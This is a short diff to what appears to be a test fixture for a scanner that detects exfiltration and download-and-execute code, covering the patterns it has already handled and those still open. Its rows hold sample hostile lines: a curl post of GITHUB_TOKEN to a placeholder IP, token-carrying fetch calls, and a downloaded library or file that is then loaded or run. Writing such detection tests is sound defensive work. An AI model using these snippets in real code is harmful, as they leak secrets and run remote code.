@@ -100,7 +100,7 @@ const ALREADY_REFUSED: FindingRow[] = [
 ];
 
 /**
- * Open, for room (the analyze bundle's growth is at the session's 2.5 KB): a method wrapper defined before the download and called on an instance (`T().go(p)`); a secret read into a variable
+ * Open, for room (the analyze bundle's growth is at the session's 2.5 KB): a method wrapper defined before the download and called on an instance (`T().go(p)`, closed in session 67); a secret read into a variable
  * first (`const t = process.env.GITHUB_TOKEN`, then `searchParams.set('t', t)`).
  */
 const OPEN_FOR_ROOM: FindingRow[] = [
@@ -112,7 +112,7 @@ const OPEN_FOR_ROOM: FindingRow[] = [
   ['src/test/kotlin/T.kt', `File("/tmp/b.so").outputStream().use { URL("${BOOT}").openStream().copyTo(it) }\nSystem.load("/tmp/b.so")`],
   ['test/a.test.js', 'await fetch(new URL(`?t=${process.env.GITHUB_TOKEN}`, base))'],
   ['docs/debugging.md', 'curl -d "t=$(printenv GITHUB_TOKEN)" https://203.0.113.9/c'],
-  ['tests/t.py', 'class T:\n    def go(self, c):\n        return os.system(c)\np = urlretrieve(u)[0]\nT().go(p)'],
+  ['tests/t.py', 'class T:\n    def go(self, c):\n        return os.system(c)\np = urlretrieve(u)[0]\nT().go(p)', 'closed'],
   ['test/a.test.js', "const t = process.env.GITHUB_TOKEN;\nurl.searchParams.set('t', t);\nawait fetch(url);"],
 ];
 
